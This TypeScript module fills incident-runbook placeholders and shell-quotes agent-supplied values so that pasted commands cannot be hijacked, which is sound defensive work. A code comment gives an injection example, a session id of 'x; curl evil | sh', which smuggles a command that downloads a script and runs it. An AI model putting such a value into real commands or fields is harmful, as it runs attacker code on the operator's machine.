import { AppError } from "@/lib/errors";

/** What a runbook may ask of the incident it runs for. */
export const PLACEHOLDERS = ["agent_id", "session_id", "incident_id", "incident_start"] as const;
export type Placeholder = (typeof PLACEHOLDERS)[number];
export type PlaceholderValues = Partial<Record<Placeholder, string | Date | null>>;

/** `{name}` with an identifier inside; `{print $1}` and `{}` are not placeholders. */
const PLACEHOLDER = /\{([A-Za-z_][A-Za-z0-9_]*)\}/g;

const MISSING: Record<Placeholder, string> = {
  agent_id: "this step needs an agent: the incident names none",
  session_id: "this step needs a session: the incident names none",
  incident_id: "this step needs an incident id: none was given",
  incident_start: "this step needs the incident's start time: the incident records none",
};

export function isPlaceholder(name: string): name is Placeholder {
  return (PLACEHOLDERS as readonly string[]).includes(name);
}

/** Each `{name}` in a template once, in order, with the offset of its first occurrence. */
export function placeholdersIn(template: string): { name: string; index: number }[] {
  const seen = new Map<string, number>();
  for (const match of template.matchAll(PLACEHOLDER)) {
    const name = match[1] ?? "";
    if (!seen.has(name)) seen.set(name, match.index);
  }
  return [...seen].map(([name, index]) => ({ name, index }));
}

export function describePlaceholders(): string {
  const names = PLACEHOLDERS.map((p) => `{${p}}`);
  return `${names.slice(0, -1).join(", ")} and ${names.at(-1)}`;
}

function valueOf(value: string | Date | null | undefined): string | null {
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? null : value.toISOString();
  return value ? value : null;
}

// Characters a POSIX shell never interprets inside a word.
const SHELL_SAFE = /^[A-Za-z0-9._:@%+=,/-]+$/;

type QuoteState = "none" | "single" | "double";

/**
 * A value as it must appear inside a shell command at a point where the shell is in `state`. A
 * session id is chosen by the agent, so a compromised agent could name a session `x; curl evil | sh`:
 * anything beyond plain characters is single-quoted, closing and reopening the template's own quotes.
 */
function shellQuote(value: string, state: QuoteState): string {
  if (SHELL_SAFE.test(value)) return value;
  const quoted = `'${value.replaceAll("'", `'\\''`)}'`;
  if (state === "single") return `'${quoted}'`;
  if (state === "double") return `"${quoted}"`;
  return quoted;
}

function shellProblem(name: string, value: string): string | null {
  if (/[\u0000-\u001f\u007f]/.test(value)) return `${name} holds control characters, which cannot go into a command`;
  if (value.startsWith("-")) return `${name} "${value}" starts with "-", which the command would read as an option`;
  return null;
}

/**
 * Fills `{agent_id}`, `{session_id}`, `{incident_id}` and `{incident_start}` from the incident.
 * With `{ shell: true }` the result is a command a person will paste into a shell: values are quoted
 * where the shell would otherwise interpret them. A placeholder without a value, or an unknown one,
 * is a VALIDATION error naming it.
 */
export function fillPlaceholders(template: string, values: PlaceholderValues, opts: { shell?: boolean } = {}): string {
  const errors: { path: string; message: string }[] = [];
  for (const { name } of placeholdersIn(template)) {
    if (!isPlaceholder(name)) {
      errors.push({ path: name, message: `unknown placeholder {${name}}: a runbook can use ${describePlaceholders()}` });
      continue;
    }
    const value = valueOf(values[name]);
    if (value === null) errors.push({ path: name, message: MISSING[name] });
    else if (opts.shell) {
      const problem = shellProblem(name, value);
      if (problem) errors.push({ path: name, message: problem });
    }
  }
  if (errors.length > 0) {
    throw new AppError("VALIDATION", errors.map((e) => e.message).join("; "), { details: { errors } });
  }
  if (!opts.shell) {
    return template.replace(PLACEHOLDER, (_, name: string) => (isPlaceholder(name) ? (valueOf(values[name]) ?? "") : `{${name}}`));
  }
  return fillShell(template, values);
}

function fillShell(template: string, values: PlaceholderValues): string {
  const at = /\{([A-Za-z_][A-Za-z0-9_]*)\}/y;
  let state: QuoteState = "none";
  let out = "";
  for (let i = 0; i < template.length; ) {
    const c = template.charAt(i);
    if (c === "{") {
      at.lastIndex = i;
      const match = at.exec(template);
      const name = match?.[1];
      if (match && name && isPlaceholder(name)) {
        out += shellQuote(valueOf(values[name]) ?? "", state);
        i += match[0].length;
        continue;
      }
    }
    if (c === "\\" && state !== "single") {
      out += template.slice(i, i + 2);
      i += 2;
      continue;
    }
    if (c === "'" && state !== "double") state = state === "single" ? "none" : "single";
    else if (c === '"' && state !== "single") state = state === "double" ? "none" : "double";
    out += c;
    i += 1;
  }
  return out;
}
